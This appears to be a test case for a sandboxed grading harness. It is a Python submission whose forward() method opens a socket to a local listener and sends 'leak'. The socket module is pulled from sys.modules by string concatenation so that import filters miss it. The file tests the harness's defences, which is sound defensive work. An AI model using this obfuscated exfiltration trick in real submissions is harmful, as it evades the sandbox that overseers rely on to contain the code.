# problem: relu_where
# expect: runtime_error
# why: opens a TCP connection to a listener on 127.0.0.1 (port filled in by the test); the socket
#      module is taken from the harness's own imports so that only the OS can stop it
import sys

net = vars(sys)["modu" + "les"]["socket"]


class ModelNew(Model):
    def forward(self, x):
        conn = net.socket(net.AF_INET, net.SOCK_STREAM)
        conn.settimeout(2)
        conn.connect(("127.0.0.1", __PORT__))
        conn.sendall(b"leak")
        return super().forward(x)
